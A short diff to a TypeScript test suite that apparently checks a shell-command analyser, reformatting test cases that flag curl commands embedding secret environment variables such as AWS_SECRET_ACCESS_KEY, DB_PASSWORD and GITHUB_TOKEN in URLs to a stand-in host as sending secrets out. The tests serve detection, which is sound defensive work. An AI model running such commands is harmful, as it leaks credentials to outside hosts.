@@ -26,10 +26,11 @@ describe("a secret variable is shown", () => {
 describe("a secret variable in an address", () => {
   const sends = (command: string) => effectLines(understandCommand(PROGRAM, command)).filter((line) => line.startsWith("send"));
 
-  it.each(['curl "https://h.example/?k=$AWS_SECRET_ACCESS_KEY"', 'curl https://h.example/$DB_PASSWORD', 'curl "h.example/$GITHUB_TOKEN/x"'])(
-    "is sent by %s",
-    (command) => expect(sends(command).join()).toContain("/proc/self/environ/"),
-  );
+  it.each([
+    'curl "https://h.example/?k=$AWS_SECRET_ACCESS_KEY"',
+    "curl https://h.example/$DB_PASSWORD",
+    'curl "h.example/$GITHUB_TOKEN/x"',
+  ])("is sent by %s", (command) => expect(sends(command).join()).toContain("/proc/self/environ/"));
 
   it.each(['curl "https://me:$DB_PASSWORD@h.example/x"', 'curl "https://h.example/?key=$API_KEY"', 'curl "https://h.example/$USER"'])(
     "is a login, or what the service asks for, in %s",
